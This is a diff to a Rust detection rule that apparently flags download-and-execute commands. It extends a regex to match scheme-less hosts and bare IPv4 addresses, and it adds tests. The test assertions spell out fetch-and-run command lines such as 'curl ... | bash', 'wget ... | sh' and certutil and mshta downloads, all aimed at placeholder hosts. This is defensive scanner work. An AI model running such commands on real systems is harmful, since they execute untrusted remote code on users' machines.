@@ -24,9 +24,10 @@ pub static INFO: RuleInfo = RuleInfo {
            Installation instructions in documentation are not scanned.",
 };
 
-/// What a downloader fetches: a URL, or a shell/batch/PowerShell variable holding one.
-/// Required so that a word list mentioning `curl ... sh` or `iex ... irm` is not a command.
-const TARGET: &str = r#"(['"(]?\s*(https?|ftp)://|\$\{?[A-Za-z_]|%[A-Za-z_]+%)"#;
+/// What a downloader fetches: a URL (with or without a scheme: `host.tld/path`, an IPv4
+/// address), or a shell/batch/PowerShell variable holding one. Required so that a word list
+/// mentioning `curl ... sh` or `iex ... irm` is not a command.
+const TARGET: &str = r#"(['"(]?\s*(https?|ftp)://|\$\{?[A-Za-z_]|%[A-Za-z_]+%|[\s'"(][\w-]+(\.[\w-]+)+(:\d+)?/|[\s'"(@]\d{1,3}(\.\d{1,3}){3}\b)"#;
 
 static PATTERNS: LazyLock<RegexSet> = LazyLock::new(|| {
     let t = TARGET;
@@ -203,5 +204,9 @@ mod tests {
         .is_some());
         assert!(matches("mshta http://x.example.invalid/a.hta").is_some());
         assert!(matches("certutil -urlcache -f %URL% a.exe && a.exe").is_some());
+        // No scheme: a host with a path, or a bare IPv4 address.
+        assert!(matches("curl -s get.example.invalid/i.sh | bash").is_some());
+        assert!(matches("wget -qO- 192.0.2.7 | sh").is_some());
+        assert!(matches("curl -sL 192.0.2.7:8080/x|python3").is_some());
     }
 }
